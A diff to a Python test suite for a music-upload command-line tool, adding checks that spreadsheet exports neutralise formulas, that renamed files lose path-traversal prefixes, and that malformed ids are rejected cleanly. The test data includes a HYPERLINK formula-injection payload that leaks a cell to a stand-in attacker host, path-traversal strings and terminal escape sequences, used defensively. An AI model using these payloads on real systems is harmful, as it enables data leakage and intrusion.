@@ -1,6 +1,7 @@
 """`ls`, `url`, `get`, `rm`, `edit`, `status`: what is there, by id."""
 
 import csv
+import re
 import subprocess
 import wave
 from collections.abc import Callable
@@ -59,7 +60,8 @@ def test_no_cell_of_a_spreadsheet_is_a_formula(moodrop: Command, a_file: AFile) 
     """A stranger may have chosen it. Machines get it as it is, by --json."""
     titles = {'=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(1)", "\uff1d1+1"}
     a_file("a.mp3")
-    more = ("--artist", "A-ha", "--tag", "=1", "--filename", "-x.mp3", "--content-type", "audio/mpeg", "--no-resume")
+    more = ["--artist", "A-ha", "--album", "B; =1+1", "--tag", "=1", "--filename", "-x.mp3"]
+    more += ["--content-type", "audio/mpeg", "--no-resume"]
     for title in titles:
         sent(moodrop, "a.mp3", f"--title={title}", *more)
 
@@ -67,7 +69,8 @@ def test_no_cell_of_a_spreadsheet_is_a_formula(moodrop: Command, a_file: AFile) 
     told = moodrop("ls", "--json").rows
 
     assert {"'" + title for title in titles} == {row["title"] for row in rows}
-    assert {("A-ha", "'=1", "'-x.mp3")} == {(row["artist"], row["tags"], row["filename"]) for row in rows}
+    named = {(row["artist"], row["album"], row["tags"], row["filename"]) for row in rows}
+    assert {("A-ha", "B;' =1+1", "'=1", "'-x.mp3")} == named
     assert titles == {row["title"] for row in told}
 
 
@@ -240,6 +243,47 @@ def test_edits_change_what_is_named_and_nothing_else(moodrop: Command, a_file: A
         told[name] for name in ("title", "mood", "artist", "album", "tags", "visibility")
     )
     assert 2 == moodrop("edit", file_id).code
+
+
+def test_a_file_gets_another_name(moodrop: Command, a_file: AFile) -> None:
+    """Downloads have it, too; one name is for one file."""
+    a_file("old.mp3")
+    (file_id,) = sent(moodrop, "old.mp3")
+
+    edited = moodrop("edit", file_id, "--filename", "../new.mp3")
+
+    assert (0, "new.mp3") == (edited.code, edited.lines[0].split("\t")[-1])
+    assert "new.mp3" == moodrop("get", file_id).lines[0]
+    for wrong in (["--filename", " "], ["--filename", "x.mp3", file_id]):
+        refused = moodrop("edit", file_id, *wrong)
+        assert (2, 1) == (refused.code, len(refused.err.splitlines())), refused
+
+
+BAD_IDS = ["nope", "", "-1", "../../v1/session", "01M8JJ3NS30ZTZ9XZBHXG3FYIL", "\u202e\x1b[31m", "x" * 300]
+
+
+@pytest.mark.parametrize(
+    "command", [["get"], ["get", "-o", "-"], ["url"], ["rm"], ["edit", "--title", "x"], ["status"]], ids=str
+)
+def test_what_is_no_id_is_one_clear_line(moodrop: Command, command: list[str]) -> None:
+    """Never a regular expression, and never an address of another kind."""
+    for bad in BAD_IDS:
+        ran = moodrop(*command, *(["--abort", bad] if command == ["status"] else ["--", bad]))
+
+        assert (2, "", 1) == (ran.code, ran.out, len(ran.err.splitlines())), ran
+        assert re.search(r'^moodrop: ".*" is not the id of an? (file|upload)\. Ids have 26 characters', ran.err)
+        assert ran.err.rstrip("\n").isprintable()
+
+
+def test_what_is_no_id_stops_no_other(moodrop: Command, a_file: AFile) -> None:
+    """And machines are told as they are of any failure."""
+    a_file("a.mp3")
+    (file_id,) = sent(moodrop, "a.mp3")
+
+    ran = moodrop("get", "nope", file_id, "--json")
+
+    assert [file_id, "usage"] == sorted(row.get("file_id") or row["error"]["code"] for row in ran.rows)
+    assert 2 == ran.code
 
 
 def test_a_cover_is_set_and_removed(moodrop: Command, a_file: AFile) -> None:
